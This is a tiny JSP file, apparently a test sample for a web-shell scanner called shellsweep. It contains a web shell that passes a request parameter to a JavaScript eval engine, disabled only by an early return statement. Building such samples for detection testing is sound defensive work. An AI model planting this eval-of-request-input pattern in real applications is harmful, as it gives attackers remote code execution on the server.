<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%
javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");
out.print(e.eval(request.getParameter("c")));
%>
